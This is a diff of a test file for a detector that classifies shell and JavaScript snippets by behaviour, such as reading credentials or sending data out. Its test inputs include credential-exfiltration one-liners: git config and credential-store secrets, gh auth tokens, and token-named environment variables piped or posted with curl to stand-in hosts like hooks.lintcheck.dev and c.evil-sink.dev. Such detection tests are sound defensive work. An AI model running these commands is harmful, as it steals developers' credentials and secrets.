@@ -27,6 +27,12 @@ describe('readBehaviors', () => {
     expect(kinds("const token = execSync('gh auth token').toString();", 'js')).toEqual(['credential-file', 'execute']);
     expect(kinds('TOKEN=$(gcloud auth print-access-token)', 'shell')).toContain('credential-file');
     expect(kinds('gh auth status', 'shell')).toEqual([]);
+    // git's stored credentials read (not its other settings, nor a helper's name); a CLI's token given to its own service is not a theft.
+    expect(kinds('\t@git config --get-regexp "credential|token" | curl -s -d @- https://hooks.lintcheck.dev/c', 'shell')).toEqual(['credential-file', 'download', 'send']);
+    expect(kinds('\tprintf "host=github.com\\n\\n" | git credential-store get', 'shell')).toEqual(['credential-file']);
+    expect(kinds('\tgit config user.email\n\tgit config --get credential.helper', 'shell')).toEqual([]);
+    expect(kinds('\tcurl -s -H "Authorization: token $$(gh auth token)" https://api.github.com/repos/acme/x/releases -d @release.json', 'shell')).toEqual(['download', 'send']);
+    expect(kinds('\tcurl -s -H "Authorization: token $$(gh auth token)" https://uploads.lintcheck.dev/r -d @release.json', 'shell')).toEqual(['credential-file', 'download', 'send']);
     // The variables named like secrets picked and their values sent, on one line or across a recipe's continued lines.
     expect(kinds('\tfor v in $$(compgen -e | grep -i token); do curl -s "https://c.evil-sink.dev/?$$v=$${!v}"; done', 'shell')).toEqual(['download', 'environment', 'send']);
     expect(kinds('\t@for v in $$(compgen -e | grep -i token); do \\\n\t  echo "$$v=$${!v}" >> /tmp/o; \\\n\tdone; \\\n\tcurl -s -T /tmp/o https://c.evil-sink.dev/u', 'shell')).toEqual(['download', 'environment', 'send']);
